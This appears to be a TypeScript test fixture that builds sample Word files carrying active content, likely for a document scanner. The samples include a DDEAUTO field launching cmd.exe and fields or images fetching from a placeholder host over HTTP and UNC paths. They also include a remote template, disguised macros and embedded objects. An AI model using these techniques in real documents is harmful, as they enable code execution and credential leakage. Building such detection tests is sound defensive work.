import { docx, external, relationships } from '../office.ts'
import { compound } from '../compound.ts'

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const part = (name: string, content: string | Buffer) => docx({ parts: [{ name, content }] })
const markup = (root: string, inner: string) =>
  `<w:${root} xmlns:w="${WORD}" xmlns:r="r" xmlns:v="urn:schemas-microsoft-com:vml">${inner}</w:${root}>`
const body = (inner: string) =>
  part('word/document.xml', markup('document', `<w:body><w:p>${inner}</w:p></w:body>`))
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const field = (...pieces: string[]) => mark('begin') + pieces.map(code).join('') + mark('end')
const related = (kind: string, target: string) =>
  part('word/_rels/document.xml.rels', relationships(external(kind, target)))

/** From ECMA-376, part 1 (17.16 fields, 17.17.2 other content) and part 2 (parts and relationships). */
export const ACTIVE_WORD_FILES: Readonly<Record<string, Buffer>> = {
  'a command in a field, its name spread over runs': body(
    field('D', 'DE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"'),
  ),
  'a command in a field of one piece': body('<w:fldSimple w:instr=" DDE excel x y "/>'),
  'a command that a field in a field puts together': body(
    mark('begin') + code(' ') + field(' QUOTE 68 68 69 ') + code(' x ') + mark('end'),
  ),
  'a picture that a field fetches': body(field(' INCLUDEPICTURE "http://x.example/p.png" \\d ')),
  'text that a field of a footer fetches': part(
    'word/footer1.xml',
    markup(
      'ftr',
      `<w:p>${field(' PAGE ')}${field(' INCLUDETEXT "\\\\\\\\x.example\\\\a" ')}</w:p>`,
    ),
  ),
  'a program in the place of a picture': part('word/media/image1.emf', Buffer.from('MZ\\x90\\x00')),
  'another document inside': docx({
    parts: [
      {
        name: 'word/document.xml',
        content: markup('document', '<w:body><w:altChunk r:id="x"/></w:body>'),
      },
      { name: 'word/afchunk.html', content: '<html/>' },
    ],
  }),
  'an object behind one byte': part(
    'word/media/image1.png',
    Buffer.concat([Buffer.from('x'), compound({ '\u0001Ole10Native': Buffer.alloc(600) })]),
  ),
  'an object, and a control': body('<w:object><w:control r:id="x"/></w:object>'),
  'macros under another name': docx({
    parts: [
      { name: 'word/document2.bin', content: compound({ VBA: Buffer.alloc(600) }) },
      {
        name: 'word/_rels/document.xml.rels',
        content: relationships(
          '<Relationship Id="x" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="document2.bin"/>',
        ),
      },
    ],
  }),
  'a template from elsewhere': related('attachedTemplate', 'http://x.example/t.dotm'),
  'a picture of a path of the network': body(
    '<w:r><w:pict><v:shape><v:imagedata src="\\\\x.example\\p.png"/></v:shape></w:pict></w:r>',
  ),
  'a letter that asks a database': part(
    'word/settings.xml',
    markup('settings', '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'),
  ),
}
